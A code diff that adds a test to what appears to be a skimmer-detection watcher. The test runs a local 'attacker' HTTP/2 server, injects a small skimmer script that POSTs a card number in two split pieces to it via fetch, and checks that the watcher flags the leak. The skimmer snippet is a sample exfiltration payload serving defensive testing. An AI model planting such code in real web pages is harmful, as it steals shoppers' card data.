@@ -1,8 +1,12 @@
 import assert from 'node:assert/strict'
 import { randomBytes, randomUUID } from 'node:crypto'
+import { once } from 'node:events'
+import { createSecureServer, type ServerHttp2Stream } from 'node:http2'
+import type { AddressInfo } from 'node:net'
 import * as path from 'node:path'
 import { after, afterEach, before, test } from 'node:test'
 import type { WatcherProfile } from '@candor/protocol/integrity-api.ts'
+import { selfSigned } from '../../server/test/tls-proxy.ts'
 import { makeCanary } from '../src/canary.ts'
 import type { Baseline } from '../src/observation.ts'
 import { watch, type Watched, type WatchedTarget } from '../src/watch.ts'
@@ -178,6 +182,36 @@ test('a form is sent off only where the tenant says so', async () => {
   const submitted = await run('fresh', { submit: true })
   assert.ok(shop.served.some((line) => line.startsWith('POST /pay')))
   assert.deepEqual(canaries(submitted), [], 'the number has no name, so no form sends it')
+})
+
+test('a card in the body of a request over HTTP/2, encrypted, is seen', async () => {
+  const bodies: string[] = []
+  const attacker = createSecureServer(selfSigned())
+  attacker.on('stream', (stream: ServerHttp2Stream) => {
+    let body = ''
+    stream.setEncoding('latin1').on('data', (text: string) => (body += text))
+    stream.on('end', () => bodies.push(body))
+    stream.respond({ ':status': 204 })
+    stream.end()
+  })
+  attacker.listen(0, '127.0.0.1')
+  await once(attacker, 'listening')
+  const { port } = attacker.address() as AddressInfo
+  try {
+    // In two requests of one connection, so that the frames of both lie in the same bytes.
+    shop.infect(
+      skimmer(`
+        const to = 'https://127.0.0.1:${port}/'
+        const post = (body) => fetch(to, { method: 'POST', mode: 'no-cors', body })
+        post('first').then(() => { post('d=' + text.slice(0, 8)); post('d=' + text.slice(8)) })`),
+    )
+    const watched = await run('fresh', {}, null, ['--ignore-certificate-errors'])
+    assert.equal(bodies.length, 3, JSON.stringify(bodies))
+    assert.match(canaries(watched)[0]?.detail ?? '', /2 pieces/, JSON.stringify(watched.run))
+    assert.equal(canaries(watched)[0]!.url, `https://127.0.0.1:${port}/`)
+  } finally {
+    await new Promise((resolve) => attacker.close(resolve))
+  }
 })
 
 test('where the browser’s log does not come to its end, the run is failed, not clean', async () => {
